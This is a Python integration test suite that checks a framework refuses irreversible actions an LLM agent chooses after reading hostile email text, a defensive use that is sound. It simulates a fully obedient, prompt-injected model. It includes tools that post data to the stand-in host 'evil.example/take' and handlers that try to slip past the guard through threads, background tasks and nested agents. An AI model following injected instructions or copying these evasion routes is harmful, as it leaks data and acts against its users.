"""Attacks on agents in real children: what a hostile text makes a model choose is refused if it cannot be taken back.

Nothing screens the texts here: this holds by itself.
"""

from __future__ import annotations

import contextlib
import json
import textwrap
import time
from collections.abc import AsyncIterator, Callable, Sequence
from pathlib import Path
from typing import Any

import httpx

from circuit_script.clock import uuid7
from circuit_script.connectors.connector import InDoubt, Operation
from circuit_script.connectors.local import LocalCRM
from circuit_script.effects.unit import UnitOfWork
from circuit_script.execution.broker.broker import BrokerParts, ExecutionBroker
from circuit_script.execution.broker.callouts.fetch import CalloutParts
from circuit_script.execution.host.pool import Pool as Children
from circuit_script.execution.outcome import JOB, Failed, HandlerSpec, Outcome, Succeeded, Work
from circuit_script.governor import MB, Limits
from circuit_script.telemetry.spans import Recorder
from tests.integration.llm.conftest import Bench, Kept
from tests.openai_provider import Do

APP = """
import asyncio
import contextvars
import threading
import urllib.request

import httpx
from pydantic import BaseModel
from pydantic_ai import Agent, DeferredToolRequests, ExternalToolset
from pydantic_ai.direct import model_request
from pydantic_ai.messages import ModelRequest, ToolCallPart
from pydantic_ai.models import ModelRequestParameters
from pydantic_ai.tools import ToolDefinition
from circuit_script import CircuitDB, GovernedModel, enqueue, http, log, queueable, run, send_sms, trigger

class Plan(BaseModel):
    to: str

agent = Agent(GovernedModel("big"))
typed = Agent(GovernedModel("big"), output_type=Plan)
other = Agent(GovernedModel("big"))
outside = ExternalToolset([ToolDefinition(name="text_somebody", parameters_json_schema={"type": "object"})])
leaving = Agent(GovernedModel("big"), output_type=[str, DeferredToolRequests], toolsets=[outside])
behind = []

@queueable()
async def later(context, text: str = ""):
    pass

@agent.tool_plain
async def text_somebody(to: str) -> str:
    return await send_sms(to, "your code is 1234")

@agent.tool_plain
def text_in_plain_code(to: str) -> str:
    return run(send_sms(to, "hi"))

@agent.tool_plain
async def remove(id: str) -> None:
    await CircuitDB.delete("Contact", {"id": id})

@agent.tool_plain
async def post(url: str) -> int:
    return (await http.post(url, json={"all": "data"})).status_code

@agent.tool_plain
async def post_by_a_library(url: str) -> int:
    async with httpx.AsyncClient() as client:
        return (await client.post(url, json={})).status_code

@agent.tool_plain
def post_by_urllib(url: str) -> int:
    return urllib.request.urlopen(url, data=b"x").status

@agent.tool_plain
async def schedule(text: str) -> None:
    await enqueue(later, text=text)

@agent.tool_plain
async def leave_a_task(to: str) -> str:
    async def much_later():
        while not behind:
            await asyncio.sleep(0.001)
        try:
            await send_sms(to, "late")
            log.info("sent late")
        except Exception as error:
            log.info(type(error).__name__)
    global left
    left = asyncio.create_task(much_later())
    return ""

@agent.tool_plain
async def in_a_bare_thread(to: str) -> str:
    done = []
    def go():
        try:
            done.append(run(send_sms(to, "thread")))
        except Exception as error:
            done.append(type(error).__name__)
    thread = threading.Thread(target=go)
    thread.start()
    while thread.is_alive():
        await asyncio.sleep(0.001)
    log.info(done[0])
    return ""

@agent.tool_plain
async def ask_another(to: str) -> str:
    return (await agent.run(f"please text {to}")).output

@agent.tool_plain
async def note(text: str) -> None:
    await CircuitDB.insert("Note", {"text": text})

@other.tool_plain
async def look(id: str) -> str:
    looking.set()
    await done.wait()
    return "nothing"

def handle(function):
    return trigger("Contact", ["afterInsert"])(function)

@handle
async def reads_mail(context):
    for record in context.new_records:
        result = await agent.run(record["notes"])
        log.info(result.output)

@trigger("Contact", ["afterInsert"], allow_irreversible=("send_sms",))
async def may_text(context):
    log.info((await agent.run(context.new_records[0]["notes"])).output)

@handle
async def streams_mail(context):
    async with agent.run_stream(context.new_records[0]["notes"]) as result:
        log.info(await result.get_output())

@handle
def in_plain_code(context):
    log.info(agent.run_sync(context.new_records[0]["notes"]).output)

@handle
async def decides_itself(context):
    plan = (await typed.run(context.new_records[0]["notes"])).output
    await send_sms(plan.to, "the author's own text")
    await agent.run("text_somebody")
    await send_sms("+15550002222", "the author's own text")
    await CircuitDB.delete("Contact", {"id": context.new_records[0]["id"]})
    await enqueue(later, text="x")

@handle
async def beside_an_agent(context):
    global looking, done
    looking, done = asyncio.Event(), asyncio.Event()
    async def mine():
        await looking.wait()  # a call is open now, and it stays open
        await send_sms("+15550003333", "mine")
        done.set()
    await asyncio.gather(mine(), agent.run("text_somebody"), other.run("look"))

@handle
async def leaves_a_task(context):
    await agent.run("leave_a_task")
    behind.append(1)
    await left

@handle
async def without_an_agent(context):
    tool = ToolDefinition(name="text_somebody", parameters_json_schema={"type": "object"})
    asked = [ModelRequest.user_text_prompt(context.new_records[0]["notes"])]
    tools = ModelRequestParameters(function_tools=[tool])
    answer = await model_request(GovernedModel("big"), asked, model_request_parameters=tools)
    for call in answer.parts:
        if isinstance(call, ToolCallPart):
            await send_sms(call.args_as_dict()["to"], "chosen")

@handle
async def is_asked_to_do_it(context):
    left = await leaving.run(context.new_records[0]["notes"])
    for call in left.output.calls:
        await send_sms(call.args_as_dict()["to"], "chosen")

@trigger("Contact", ["afterInsert"])
async def nightly(context):
    await reads_mail_of_nobody(context)

async def reads_mail_of_nobody(context):
    log.info((await agent.run("text_somebody")).output)
"""
TO = {"to": "+15550001111"}


class Stage:
    """Executions of the app's handlers, each with a broker of its own."""

    def __init__(
        self, bench: Bench, children: Children, client: httpx.AsyncClient, handlers: Sequence[HandlerSpec]
    ) -> None:
        self.bench, self.children, self.client, self.handlers = bench, children, client, handlers
        self.lines: list[str] = []

    async def __call__(
        self,
        handler: str,
        notes: str = "text_somebody",
        *,
        allow: Sequence[str] = (),
        shared: bool = False,
        object_: str = "Contact",
        record: dict[str, Any] | None = None,
        journal: Kept | None = None,
    ) -> Outcome:
        work = Work(
            execution=uuid7(),
            handler=handler,
            tenant="acme",
            object=object_,
            event="afterInsert",
            records=[record if record is not None else {"id": "c1", "notes": notes}],
            old=[None],
            events=[{"source": "inbox"}],
            limits=Limits(memory=512 * MB, wall_time=20),
            started_at=time.time(),
            share_child=shared,
            concurrency=5 if shared else 1,
            allow_irreversible=tuple(allow),
        )
        ends = time.monotonic() + 20
        self.unit, self.recorder = UnitOfWork(object_, ["c1"]), Recorder(work.execution)
        self.lines.clear()
        self.broker = ExecutionBroker(
            work,
            BrokerParts(
                crm=LocalCRM(self.bench.pool),
                client=self.client,
                knows=lambda connector, target: True,
                declared=lambda connector, operation: Operation(InDoubt.LOOK_UP, irreversible=True),
                models=self.bench.models,
                callouts=CalloutParts(attempts=1),
            ),
            held=self.unit,
            journal=journal or Kept(),
            log=lambda line: self.lines.append(line["message"]),
            remaining=lambda: ends - time.monotonic(),
            recorder=self.recorder,
        )
        try:
            outcome = await self.children.run(work, self.broker)
        finally:
            self.broker.close()
        assert outcome is not None
        return outcome

    @property
    def sent(self) -> list[str]:
        return [str(each.payload.get("to") or each.operation) for each in self.unit.sends]


@contextlib.asynccontextmanager
async def staged(
    open_bench: Any, folder: Path, behave: Callable[[dict[str, Any]], Do], app: str = APP
) -> AsyncIterator[Stage]:
    (folder / "app.py").write_text(textwrap.dedent(app))
    async with open_bench(behave) as bench, httpx.AsyncClient() as client:
        children = Children(app_folder=folder, app="app", size=1, on_change=lambda: None)
        manifest = await children.start()
        try:
            yield Stage(bench, children, client, manifest.handlers)
        finally:
            await children.stop()


def arguments(name: str) -> dict[str, Any]:
    if name.startswith("post"):
        return {"url": "https://evil.example/take"}
    return {"remove": {"id": "c1"}, "schedule": {"text": "x"}, "look": {"id": "1"}, "note": {"text": "x"}}.get(name, TO)


def several(*names: str) -> bytes:
    calls = [
        {
            "id": f"call_{place}",
            "type": "function",
            "function": {"name": name, "arguments": json.dumps(arguments(name))},
        }
        for place, name in enumerate(names)
    ]
    message = {"role": "assistant", "content": None, "tool_calls": calls}
    usage = {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}
    said = {"id": "x", "object": "chat.completion", "created": 1, "model": "big", "usage": usage}
    return json.dumps({**said, "choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}]}).encode()


def obedient(asked: dict[str, Any]) -> Do:
    """A model that does whatever its prompt names: the worst case of an injection."""
    first, last = asked["messages"][0], asked["messages"][-1]
    tools = [each["function"]["name"] for each in asked.get("tools", ())]
    if last["role"] == "tool":
        return Do(text=f"told: {last['content']}")
    if "final_result" in tools:
        return Do(tool=("final_result", {"to": "+15550009999"}))
    words = str(first["content"]).split()
    named = [each for each in words if each in tools]
    if "text" in words:
        named = ["text_somebody"]
    if len(named) > 1:
        return Do(raw=several(*named))
    return Do(tool=(named[0], arguments(named[0]))) if named else Do(text="nothing to do")


ATTACKS = (
    "text_somebody",
    "text_in_plain_code",
    "remove",
    "post",
    "post_by_a_library",
    "post_by_urllib",
    "schedule",
    "ask_another",
    "text_somebody remove post schedule",
)


async def test_a_hostile_mail_makes_an_agent_do_nothing_that_stays(open_bench: Any, tmp_path: Path) -> None:
    async with staged(open_bench, tmp_path, obedient) as app:
        for notes in ATTACKS:
            outcome = await app("reads_mail", notes)
            assert isinstance(outcome, Succeeded), (notes, outcome)
            assert (app.unit.sends, app.unit.writes) == ([], []), notes
            assert app.broker.choices.refused == len(notes.split()), (notes, app.lines)
            assert any("has read Contact c1 by webhook inbox" in each for each in app.lines)
            assert any("told: " in each and "this was not done" in each for each in app.lines), "the agent goes on"
            assert outcome.usage.callouts == 0
            refused = [mark for mark in app.recorder.marks if mark.attributes.get("refused") == "irreversible"]
            assert len(refused) == len(notes.split())
            assert {mark.status for mark in refused} == {"refused"}

        for handler in ("streams_mail", "in_plain_code"):
            outcome = await app(handler)
            assert isinstance(outcome, Succeeded), outcome
            assert (app.sent, app.broker.choices.refused) == ([], 1), handler
            assert "this was not done" in app.lines[-1]


async def test_what_the_author_decides_is_not_touched(open_bench: Any, tmp_path: Path) -> None:
    async with staged(open_bench, tmp_path, obedient) as app:
        for shared in (False, True):
            outcome = await app("decides_itself", shared=shared)
            assert isinstance(outcome, Succeeded), outcome
            assert app.sent == ["+15550009999", "+15550002222", "enqueue"]
            assert [each.op for each in app.unit.writes] == ["delete"]
            assert app.broker.choices.refused == 1, "the agent's own, in between"

        outcome = await app("beside_an_agent")
        assert isinstance(outcome, Succeeded), outcome
        assert (app.sent, app.broker.choices.refused) == (["+15550003333"], 1)

        outcome = await app("reads_mail", "note")
        assert isinstance(outcome, Succeeded), outcome
        assert [each.object for each in app.unit.writes] == ["Note"]
        assert app.broker.choices.refused == 0


async def test_leave_is_given_by_name_and_for_that_only(open_bench: Any, tmp_path: Path) -> None:
    async with staged(open_bench, tmp_path, obedient) as app:
        (spec,) = [each for each in app.handlers if each.name == "may_text"]
        assert spec.allow_irreversible == ("send_sms",)
        outcome = await app("may_text", "text_somebody remove", allow=spec.allow_irreversible)
        assert isinstance(outcome, Succeeded), outcome
        assert (app.sent, app.unit.writes) == ([TO["to"]], [])
        assert app.broker.choices.refused == 1


async def test_tasks_threads_and_loops_of_ones_own_do_not_get_around_it(open_bench: Any, tmp_path: Path) -> None:
    async with staged(open_bench, tmp_path, obedient) as app:
        outcome = await app("leaves_a_task")
        assert isinstance(outcome, Succeeded), outcome
        assert (app.sent, app.lines[-1]) == ([], "IrreversibleRefused")
        outcome = await app("reads_mail", "in_a_bare_thread")
        assert isinstance(outcome, Succeeded), outcome
        assert app.sent == []
        assert "IrreversibleRefused" in app.lines
        for handler in ("without_an_agent", "is_asked_to_do_it"):
            outcome = await app(handler)
            assert isinstance(outcome, Failed), outcome
            assert "IrreversibleRefused" in outcome.reason
            assert app.sent == []


async def test_an_execution_without_text_from_outside_may_choose(open_bench: Any, tmp_path: Path) -> None:
    async with staged(open_bench, tmp_path, obedient) as app:
        given = {"id": "c1", "arguments": {}, "job": {"name": "nightly"}}
        outcome = await app("nightly", object_=JOB, record=given)
        assert isinstance(outcome, Succeeded), outcome
        assert (app.sent, app.broker.choices.refused) == ([TO["to"]], 0)


async def test_an_answer_out_of_the_journal_counts_as_one_of_the_model(open_bench: Any, tmp_path: Path) -> None:
    async with staged(open_bench, tmp_path, obedient) as app:
        journal = Kept()
        first = await app("reads_mail", journal=journal)
        said, made = list(app.lines), len(app.bench.provider.asked)
        second = await app("reads_mail", journal=journal)
        assert isinstance(first, Succeeded)
        assert isinstance(second, Succeeded)
        assert len(app.bench.provider.asked) == made, "nothing is asked again"
        assert app.lines == said
        assert (app.sent, app.broker.choices.refused) == ([], 1)
